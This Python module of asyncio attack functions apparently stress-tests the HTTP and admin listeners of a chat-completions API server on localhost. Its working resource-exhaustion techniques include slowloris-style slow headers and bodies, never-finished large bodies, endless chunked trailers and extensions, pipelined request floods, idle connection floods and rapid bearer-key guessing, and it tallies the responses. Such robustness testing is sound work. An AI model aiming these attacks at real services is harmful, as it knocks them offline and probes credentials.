"""Attacks on the HTTP listener and on the admin listener."""

import asyncio

from attack.grpc_attacks import _connections
from attack.target import KIBIBYTE, MEBIBYTE, Target

PATH = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"


def head(target: Target, *lines: str, key: bool = False) -> bytes:
    bearer = (f"authorization: Bearer {target.key}",) if key else ()
    return PATH + "".join(f"{line}\r\n" for line in (*bearer, *lines)).encode() + b"\r\n"


async def _send(
    target: Target, number: int, first: bytes, pieces, *, address: str = "", pause_s: float = 0
) -> None:
    """Send pieces until the victim answers or closes. Count its status."""
    async with target.connected(address or target.http, number) as (reader, writer):
        answer = asyncio.create_task(reader.readline())
        writer.write(first)
        for piece in pieces:
            if target.over or answer.done():
                break
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(pause_s)
        line = await answer
        target.seen[line.decode("latin-1").strip()[9:12] or "closed"] += 1


def _forever(piece: bytes, target: Target):
    return (piece for _ in range(target.rounds * 2000))


async def slow_heads(target: Target) -> None:
    async def attack(number):
        await _send(target, number, PATH, _forever(b"x-a: b\r\n", target), pause_s=1.0)

    await target.repeat(attack, parallel=target.connections)


async def slow_bodies(target: Target) -> None:
    async def attack(number):
        first = head(target, "content-length: 1000000")
        await _send(target, number, first, _forever(b" ", target), pause_s=1.0)

    await target.repeat(attack, parallel=target.connections)


async def slow_bodies_with_a_key(target: Target) -> None:
    async def attack(number):
        first = head(target, "content-length: 1000000", key=True)
        await _send(target, number, first, _forever(b" ", target), pause_s=1.0)

    await target.repeat(attack, parallel=min(target.connections, 200))


async def large_slow_bodies(target: Target) -> None:
    """Send nearly all of a body of 31 MiB, and never its end."""

    async def attack(number):
        first = head(target, f"content-length: {31 * MEBIBYTE}", key=True)
        pieces = [b" " * 256 * KIBIBYTE] * 123
        await _send(target, number, first, [*pieces, *([b" "] * 60)], pause_s=0.01)

    await target.repeat(attack, parallel=min(target.connections, 60))


async def endless_trailers(target: Target) -> None:
    async def attack(number):
        first = head(target, "transfer-encoding: chunked", key=bool(number % 2)) + b"2\r\n{}\r\n0\r\n"
        await _send(target, number, first, _forever(b"x: " + b"y" * 60_000 + b"\r\n", target))

    await target.repeat(attack, parallel=8)


async def chunk_extensions(target: Target) -> None:
    async def attack(number):
        first = head(target, "transfer-encoding: chunked", key=True) + b"1;"
        await _send(target, number, first, _forever(b"x" * 60_000, target))

    await target.repeat(attack, parallel=8)


async def one_byte_chunks(target: Target) -> None:
    async def attack(number):
        first = head(target, "transfer-encoding: chunked", key=True)
        await _send(target, number, first, _forever(b"1\r\n \r\n" * 5000, target))

    await target.repeat(attack, parallel=4)


async def pipelined_requests(target: Target) -> None:
    async def attack(number):
        get = b"GET /v1/models HTTP/1.1\r\nhost: localhost\r\n\r\n"
        async with target.connected(target.http, number) as (reader, writer):
            for _ in range(target.rounds * 100):
                if target.over:
                    break
                writer.write(get * 500)
                await writer.drain()
                await reader.read(MEBIBYTE)

    await target.repeat(attack, parallel=4)


async def idle_connections(target: Target) -> None:
    await _connections(target, target.http, b"")


async def connections_to_admin(target: Target) -> None:
    await _connections(target, target.admin, b"GET /")


async def bad_keys(target: Target) -> None:
    async def attack(number):
        async with target.connected(target.http, number) as (reader, writer):
            for count in range(500):
                if target.over:
                    break
                key = f"tc_{number:06x}{count:06x}_{'x' * 43}"
                writer.write(head(target, f"authorization: Bearer {key}", "content-length: 0"))
                line = await reader.readline()
                target.seen[line.decode("latin-1").strip()[9:12] or "closed"] += 1
                await reader.readuntil(b"}}")

    await target.repeat(attack, parallel=8)
